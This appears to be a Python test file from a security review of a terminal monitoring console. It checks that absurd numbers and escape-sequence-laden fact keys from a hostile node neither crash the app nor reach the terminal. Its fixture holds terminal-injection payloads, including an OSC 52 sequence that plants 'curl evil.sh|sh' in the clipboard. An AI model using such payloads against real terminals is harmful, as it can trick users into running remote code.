"""A hostile node against the console and `dvic node` (security review L1, M4): non-finite and
absurd numbers never crash them, and fact keys never reach the terminal with escape sequences."""

from __future__ import annotations

import time
from typing import Any

from textual.widgets import DataTable, Sparkline, Static

from tests.support.fake_node import FakeNode
from tests.support.server import CentralServer
from tests.tui.clikit import run_dvic
from tests.tui.realkit import connected
from tests.tui.tuifake import FakeCentral, wait_for
from tui import fmt
from tui.api.config import Settings
from tui.console.app import DvicApp
from tui.console.screens.node import NodeScreen

HOSTILE_KEYS = {
    "\x1b]52;c;Y3VybCBldmlsLnNofHNoCg==\x07": "x",  # OSC 52: the clipboard := "curl evil.sh|sh"
    "\x1b]0;PWNED\x07": "y",  # OSC 0: the window title
    "\x1bc": "reset",  # ESC c: resets the terminal
}
INF, NAN = float("inf"), float("nan")


def facts_text(screen: NodeScreen) -> str:
    return str(screen.query_one("#facts", Static).render())


async def open_node(app: DvicApp, pilot: Any, node_id: str) -> NodeScreen:
    table = app.screen.query_one(DataTable)
    await wait_for(lambda: node_id in [str(k.value) for k in table.rows], what="the node's row")
    table.move_cursor(row=table.get_row_index(node_id))
    await pilot.press("enter")
    await wait_for(lambda: isinstance(app.screen, NodeScreen), what="node view")
    assert isinstance(app.screen, NodeScreen)
    return app.screen


def label(screen: NodeScreen, metric: str) -> str:
    return str(screen.query_one(f"#label-{metric}").render())


def spark(screen: NodeScreen, metric: str) -> list[float]:
    return list(screen.query_one(f"#spark-{metric}", Sparkline).data or [])


# -- L1: the chart skips what it cannot draw --------------------------------------------------------
async def test_node_page_skips_non_finite_and_absurd_points(fake: FakeCentral) -> None:
    """What an older server answered (the review's l1_console.py crashed the console with it)."""
    now = int(time.time())
    node = fake.add_node("pi-inf")
    node["series"] = {
        "cpu": [[now - 300, 1.0, INF, 1e308], [now - 240, -1e308, 1e308, 1e308], [now - 180, 5.0, 10.0, 20.0],
                [now - 120, NAN, NAN, NAN], [now - 90, 10**400, 10**400, 10**400], [now - 60, 6.0, 12.0, 24.0]],
        "mem": [[now - 120, INF, INF, INF], [now - 60, -INF, -INF, -INF]],
    }
    node["sample"] = {"type": "metrics", "ts": now, "uptime": INF, "procs": 10**400}
    node["facts"]["boot_time"] = 1e308
    app = DvicApp(Settings(fake.url, fake.admin_token, None))
    async with app.run_test(size=(160, 48)) as pilot:
        screen = await open_node(app, pilot, node["id"])
        await wait_for(lambda: "now 12%" in label(screen, "cpu"), what="the cpu chart")
        await pilot.pause()  # let the sparklines draw
        assert spark(screen, "cpu") == [10.0, 12.0]
        assert "min 5%" in label(screen, "cpu") and "max 24%" in label(screen, "cpu")
        assert "no data" in label(screen, "mem") and spark(screen, "mem") == []
        assert app.is_running and app.screen is screen
        app.export_screenshot()  # renders every widget once more


def test_formatting_absurd_times_does_not_raise() -> None:
    assert fmt.stamp(1e308) == "?" and fmt.stamp(-1e308) == "?" and fmt.stamp(NAN) == "?"
    assert fmt.duration(INF) == "-" and fmt.duration(NAN) == "-"
    assert fmt.stamp(0) != "?"


async def test_real_server_samples_that_overflowed_do_not_crash_the_console(central_server: CentralServer) -> None:
    """l1.py + l1_console.py against the real server: the samples are refused, the page opens."""
    server = central_server
    bundle = server.enroll("pi-l1")
    now = time.time()
    minute = now - now % 60
    for ts in (minute - 30, minute + 1, minute + 2):  # two in one minute: their average overflowed
        async with FakeNode(bundle) as node:
            await node.connect()
            await node.hello()
            await node.send({"type": "metrics", "ts": ts, "cpu": {"total": 1e308}})
    async with connected(bundle) as node:  # says hello and sends a normal sample (cpu 12.5)
        app = DvicApp(Settings(server.url, server.admin_token, str(server.ca_path)))
        async with app.run_test(size=(160, 48)) as pilot:
            screen = await open_node(app, pilot, bundle["node_id"])
            await wait_for(lambda: "now 12%" in label(screen, "cpu") or "now 13%" in label(screen, "cpu"),
                           what="the cpu chart")
            await pilot.pause()
            assert app.is_running and app.screen is screen
            assert all(v < 100 for v in spark(screen, "cpu"))
        await node.close()


# -- M4: fact keys are cleaned like values --------------------------------------------------------
async def test_node_page_cleans_fact_keys(fake: FakeCentral) -> None:
    node = fake.add_node("pi-keys")
    node["facts"].update(HOSTILE_KEYS)
    app = DvicApp(Settings(fake.url, fake.admin_token, None))
    async with app.run_test(size=(160, 48)) as pilot:
        screen = await open_node(app, pilot, node["id"])
        await wait_for(lambda: "reset" in facts_text(screen), what="the hostile facts")
        text = facts_text(screen)
        assert "\x1b" not in text and "\x07" not in text
        assert " reset\n" in text and " x\n" in text  # the values, under keys whose sequences were removed
        assert "\x1b" not in app.export_screenshot()


async def test_dvic_node_cleans_fact_keys(fake: FakeCentral, dvic_env: dict[str, str]) -> None:
    node = fake.add_node("pi-keys")
    node["facts"].update(HOSTILE_KEYS)
    node["facts"]["boot_time"] = 1e308  # absurd: shown as "?", not a traceback
    env = dict(dvic_env, DVIC_SERVER=fake.url, DVIC_TOKEN=fake.admin_token)
    res = await run_dvic(env, "node", "pi-keys")
    assert res.code == 0, res.err
    assert "\x1b" not in res.out and "\x07" not in res.out
    assert "fact boot_time" in res.out and "?" in res.out
    assert {line.split()[-1] for line in res.out.splitlines() if line.startswith("fact ")} >= {"x", "y", "reset"}


async def test_hostile_fact_keys_from_a_real_node_reach_no_terminal(central_server: CentralServer,
                                                                  dvic_env: dict[str, str]) -> None:
    """The review's m4.py, then `dvic node` and the console's node page."""
    server = central_server
    bundle = server.enroll("node-c")
    async with connected(bundle, **HOSTILE_KEYS, model="\x1b]0;value\x07 [red]v[/red]"):
        env = dict(dvic_env, DVIC_SERVER=server.url, DVIC_TOKEN=server.admin_token, DVIC_CA=str(server.ca_path))
        res = await run_dvic(env, "node", "node-c")
        assert res.code == 0, res.err
        assert "\x1b" not in res.out and "\x07" not in res.out and "[red]v[/red]" in res.out
        app = DvicApp(Settings(server.url, server.admin_token, str(server.ca_path)))
        async with app.run_test(size=(160, 48)) as pilot:
            screen = await open_node(app, pilot, bundle["node_id"])
            await wait_for(lambda: "[red]v[/red]" in facts_text(screen), what="facts")
            assert "\x1b" not in facts_text(screen) and "\x07" not in facts_text(screen)
            assert "\x1b" not in app.export_screenshot()
